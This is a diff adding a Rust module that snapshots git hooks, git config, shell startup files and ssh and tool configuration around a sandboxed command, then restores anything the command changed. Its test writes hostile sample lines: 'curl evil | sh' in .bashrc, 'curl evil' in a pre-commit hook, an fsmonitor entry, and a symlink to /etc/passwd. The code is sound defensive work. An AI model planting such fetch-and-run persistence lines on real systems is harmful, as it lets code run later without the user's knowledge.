@@ -1,0 +1,277 @@
+//! What runs later: the files in a project that make code run after pai is gone, unconfined
+//! and unasked: git's hooks and configuration (`core.hooksPath`, `core.fsmonitor`), pai's own
+//! state, and, when the project is the home directory, the shell's startup files, ssh and git
+//! configuration and pai's configuration. A confined RUN may write inside the project, so
+//! Landlock alone cannot keep it from these. pai records them before a RUN, compares after, and
+//! puts back whatever the command changed, added or removed; the step then fails and says
+//! which files it restored (detect and restore: the command did run, but nothing it left there
+//! survives).
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use super::state::{STATE_DIR, StateDir};
+
+/// One guarded area: a directory at the project root, a path inside it, and how deep to look.
+struct Area {
+    top: &'static str,
+    inside: &'static [&'static str],
+    depth: usize,
+}
+
+/// The areas, relative to the project root. A file (not a directory) area has depth 0 and is
+/// looked for in its parent.
+const DIRS: &[Area] = &[
+    Area {
+        top: ".git",
+        inside: &["hooks"],
+        depth: 3,
+    },
+    Area {
+        top: ".git",
+        inside: &["info"],
+        depth: 2,
+    },
+    Area {
+        top: STATE_DIR,
+        inside: &[],
+        depth: 0,
+    },
+    Area {
+        top: STATE_DIR,
+        inside: &["git", "hooks"],
+        depth: 2,
+    },
+    Area {
+        top: ".ssh",
+        inside: &[],
+        depth: 2,
+    },
+    Area {
+        top: ".config",
+        inside: &["pai-code"],
+        depth: 2,
+    },
+    Area {
+        top: ".config",
+        inside: &["git"],
+        depth: 2,
+    },
+];
+
+/// Single files whose change makes code run later: `(top directory or "" for the root, name)`.
+const FILES: &[(&str, &str)] = &[
+    (".git", "config"),
+    (STATE_DIR, "git/config"),
+    ("", ".bashrc"),
+    ("", ".bash_profile"),
+    ("", ".bash_login"),
+    ("", ".profile"),
+    ("", ".zshrc"),
+    ("", ".zprofile"),
+    ("", ".zshenv"),
+    ("", ".gitconfig"),
+    ("", ".pam_environment"),
+];
+
+type Key = (String, Vec<String>);
+type Entry = Option<(Vec<u8>, u32)>;
+
+/// The recorded state of everything that runs later.
+#[derive(Default)]
+pub struct LaterState {
+    entries: BTreeMap<Key, Entry>,
+}
+
+fn scan(root: &Path) -> LaterState {
+    let mut entries = BTreeMap::new();
+    for area in DIRS {
+        let Ok(dir) = StateDir::open_named(root, area.top, false) else {
+            continue;
+        };
+        if let Ok(found) = dir.walk(area.inside, area.depth) {
+            for (path, entry) in found {
+                // The state directory's own logs are written by pai, not by commands.
+                let is_log = area.top == STATE_DIR
+                    && path.len() == 1
+                    && (path[0].starts_with("session_") || path[0] == "session.lock");
+                if !is_log {
+                    entries.insert((area.top.to_string(), path), entry);
+                }
+            }
+        }
+    }
+    for (top, name) in FILES {
+        let parts: Vec<&str> = name.split('/').collect();
+        let read = if top.is_empty() {
+            read_root_file(root, name)
+        } else {
+            match StateDir::open_named(root, top, false) {
+                Ok(dir) => match dir.read_with_mode(&parts) {
+                    Ok(found) => Some(Some(found)),
+                    Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
+                    Err(_) => Some(None),
+                },
+                Err(_) => None,
+            }
+        };
+        if let Some(entry) = read {
+            let key = (
+                top.to_string(),
+                parts.iter().map(|p| p.to_string()).collect(),
+            );
+            entries.insert(key, entry);
+        }
+    }
+    LaterState { entries }
+}
+
+/// A regular file directly in the root: `None` when absent, `Some(None)` when it is a link or
+/// special file.
+fn read_root_file(root: &Path, name: &str) -> Option<Entry> {
+    use std::os::unix::fs::MetadataExt;
+    let path = root.join(name);
+    let meta = std::fs::symlink_metadata(&path).ok()?;
+    if !meta.file_type().is_file() {
+        return Some(None);
+    }
+    // Opened without following a link swapped in since the check.
+    use std::os::unix::fs::OpenOptionsExt;
+    let mut f = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
+        .open(&path)
+        .ok()?;
+    let mut bytes = Vec::new();
+    std::io::Read::read_to_end(&mut f, &mut bytes).ok()?;
+    Some(Some((bytes, meta.mode() & 0o7777)))
+}
+
+impl LaterState {
+    /// Record the current state under `root`.
+    pub fn record(root: &Path) -> LaterState {
+        scan(root)
+    }
+
+    /// Compare with the state now; put back what changed. Returns the project-relative paths
+    /// that were changed (restored, or removed when the command added them), empty when
+    /// nothing was touched.
+    pub fn restore_changes(&self, root: &Path) -> Vec<String> {
+        let now = scan(root);
+        let mut changed = Vec::new();
+        let keys: std::collections::BTreeSet<&Key> =
+            self.entries.keys().chain(now.entries.keys()).collect();
+        for key in keys {
+            let before = self.entries.get(key);
+            let after = now.entries.get(key);
+            if before == after {
+                continue;
+            }
+            let (top, parts) = key;
+            let shown = if top.is_empty() {
+                parts.join("/")
+            } else {
+                format!("{top}/{}", parts.join("/"))
+            };
+            changed.push(shown);
+            let refs: Vec<&str> = parts.iter().map(String::as_str).collect();
+            // Best effort, without following anything: a failure leaves the change reported.
+            if top.is_empty() {
+                let path = root.join(parts.join("/"));
+                let _ = std::fs::remove_file(&path);
+                if let Some(Some((bytes, mode))) = before {
+                    let _ = write_root_file(root, &parts.join("/"), bytes, *mode);
+                }
+                continue;
+            }
+            let opened = StateDir::open_named(root, top, false)
+                .or_else(|_| StateDir::open_named(root, top, true));
+            let Ok(dir) = opened else {
+                continue;
+            };
+            let _ = dir.clear_way(&refs);
+            match before {
+                Some(Some((bytes, mode))) => {
+                    let _ = dir.replace(&refs, bytes, *mode);
+                }
+                // Added by the command (or a link that was there stays as it was).
+                None => {
+                    let _ = dir.remove(&refs);
+                }
+                Some(None) => {}
+            }
+        }
+        changed
+    }
+}
+
+fn write_root_file(root: &Path, name: &str, bytes: &[u8], mode: u32) -> std::io::Result<()> {
+    use std::os::unix::fs::OpenOptionsExt;
+    let mut f = std::fs::OpenOptions::new()
+        .write(true)
+        .create_new(true)
+        .mode(mode)
+        .custom_flags(libc::O_NOFOLLOW)
+        .open(root.join(name))?;
+    std::io::Write::write_all(&mut f, bytes)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn hooks_config_and_state_are_put_back() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path();
+        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(root.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
+        std::fs::create_dir_all(root.join(".pai_history")).unwrap();
+        std::fs::write(root.join(".pai_history/.gitignore"), "*\n").unwrap();
+        let before = LaterState::record(root);
+        // What a hostile command does.
+        std::fs::write(root.join(".git/hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
+        std::fs::write(root.join(".git/config"), "[core]\nfsmonitor = evil\n").unwrap();
+        std::fs::write(root.join(".bashrc"), "curl evil | sh\n").unwrap();
+        std::fs::remove_file(root.join(".pai_history/.gitignore")).unwrap();
+        std::os::unix::fs::symlink("/etc/passwd", root.join(".pai_history/.gitignore")).unwrap();
+        let changed = before.restore_changes(root);
+        assert_eq!(changed.len(), 4, "{changed:?}");
+        assert!(!root.join(".git/hooks/pre-commit").exists());
+        assert_eq!(
+            std::fs::read_to_string(root.join(".git/config")).unwrap(),
+            "[core]\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(root.join(".bashrc")).unwrap(),
+            "alias ll='ls -l'\n"
+        );
+        let gi = root.join(".pai_history/.gitignore");
+        assert!(
+            std::fs::symlink_metadata(&gi)
+                .unwrap()
+                .file_type()
+                .is_file()
+        );
+        assert!(LaterState::record(root).restore_changes(root).is_empty());
+    }
+
+    #[test]
+    fn a_hooks_directory_swapped_for_a_link_is_put_back() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path().join("p");
+        let outside = tmp.path().join("outside");
+        std::fs::create_dir_all(root.join(".git/hooks")).unwrap();
+        std::fs::create_dir_all(&outside).unwrap();
+        std::fs::write(root.join(".git/hooks/post-merge"), "#!/bin/sh\n").unwrap();
+        let before = LaterState::record(&root);
+        std::fs::remove_dir_all(root.join(".git/hooks")).unwrap();
+        std::os::unix::fs::symlink(&outside, root.join(".git/hooks")).unwrap();
+        let changed = before.restore_changes(&root);
+        assert!(!changed.is_empty());
+        assert!(root.join(".git/hooks").symlink_metadata().unwrap().is_dir());
+        assert!(root.join(".git/hooks/post-merge").exists());
+        assert!(std::fs::read_dir(&outside).unwrap().next().is_none());
+    }
+}
